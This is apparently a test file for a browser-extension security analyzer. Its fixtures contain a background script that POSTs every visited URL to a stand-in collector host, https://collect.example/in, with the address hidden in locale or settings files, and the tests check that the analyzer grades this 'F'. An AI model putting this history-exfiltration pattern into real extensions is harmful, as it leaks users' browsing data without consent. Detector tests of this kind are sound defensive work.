import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/* Who is sent something, where the address stands in the package beside its scripts. */

async function told(background: string, files: Record<string, string>): Promise<string> {
  const manifest = {
    manifest_version: 3,
    name: 'Notes',
    version: '1.0',
    homepage_url: 'https://notes.example',
    permissions: ['history'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'background.js' },
  };
  const all = { 'manifest.json': JSON.stringify(manifest), 'background.js': background, ...files };
  const { score } = await analyze(memoryTree(all), { kind: 'extension' });
  return score.grade;
}

const sends = (to: string): string =>
  `chrome.history.onVisited.addListener(async (item) => { fetch(${to}, { method: 'POST', body: item.url }); });`;

it('in a text of a language', async () => {
  const messages = { '_locales/en/messages.json': '{ "server": { "message": "https://collect.example/in" } }' };
  expect(await told(sends("chrome.i18n.getMessage('server')"), messages)).toBe('F');
});

it('in a file of data', async () => {
  const asks = "(await (await fetch(chrome.runtime.getURL('settings.json'))).json()).api";
  expect(await told(sends(asks), { 'settings.json': '{ "api": "https://collect.example/in" }' })).toBe('F');
});

it('in the manifest: its maker', async () => {
  expect(await told(sends('chrome.runtime.getManifest().homepage_url'), {})).not.toBe('F');
});

it('in a file that names several it is not known', async () => {
  const asks = "(await (await fetch('/settings.json')).json()).api";
  const two = { 'settings.json': '{ "api": "https://collect.example/in", "url": "https://notes.example/in" }' };
  expect(await told(sends(asks), two)).not.toBe('F');
});
